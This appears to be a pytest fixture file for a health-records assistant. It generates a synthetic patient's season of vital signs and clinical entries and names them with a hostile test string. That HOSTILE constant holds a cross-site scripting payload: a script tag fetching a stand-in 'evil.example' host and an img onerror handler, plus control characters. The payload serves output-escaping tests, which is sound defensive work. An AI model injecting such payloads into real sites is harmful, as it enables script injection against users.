"""A person with a season of everything, some of it named by somebody hostile, and the page that is made of it."""

from __future__ import annotations

import math
from collections.abc import Callable, Mapping, Sequence
from datetime import date, timedelta

import pytest

from assistant.records.sample import Clinical
from assistant.tasks.spec import Context
from assistant.testing import NOON, FakeRecords, fake_context

TODAY = NOON.date()
HOSTILE = '<script>fetch("http://evil.example")</script>"><img src=x onerror=alert(1)></style><font color="red">&lt;\x00\u202e\nnext'
LEVELS = {
    "systolic": 134,
    "diastolic": 86,
    "resting_heart_rate": 62,
    "sleep_duration": 400,
    "weight": 80,
    "glucose": 100,
    "time_in_range": 80,
    "steps": 8000,
    "hrv": 42,
    "spo2": 97,
    "respiratory_rate": 15,
    "body_temperature": 36.6,
    "vo2max": 40,
}


def season(level: float, step: float = 0.0, length: int = 200, last: date = TODAY) -> dict[date, float]:
    """Days that end with `last`: a wave around a level that moves by `step` a day; every tenth day has no data."""
    first = last - timedelta(days=length - 1)
    return {first + timedelta(days=n): round(level * (1 + 0.02 * math.sin(n * 1.7)) + step * n, 2) for n in range(length) if n % 10 != 3}


@pytest.fixture
def rich() -> Callable[..., Context]:
    def make(
        language: str = "en", name: str = HOSTILE, entries: int = 8, levels: Mapping[str, float] = LEVELS, denied: Sequence[str] = ()
    ) -> Context:
        kinds = ("condition", "medication", "allergy", "lab")
        clinical = [
            Clinical(kind, f"{kind}-{n}", f"{name} {n}", name, "", "active", TODAY - timedelta(days=n), None, name, *_lab(kind, n, name))
            for kind in kinds
            for n in range(entries)
        ]
        values = {("ana", measure): season(level, 0.02 * level / 90) for measure, level in levels.items()}
        return fake_context(language=language, records=FakeRecords(values, clinical={"ana": clinical}, denied=denied))

    return make


def _lab(kind: str, n: int, name: str) -> tuple[object, ...]:
    return (5.0 + n, name, 1.0, 9.0) if kind == "lab" else ()
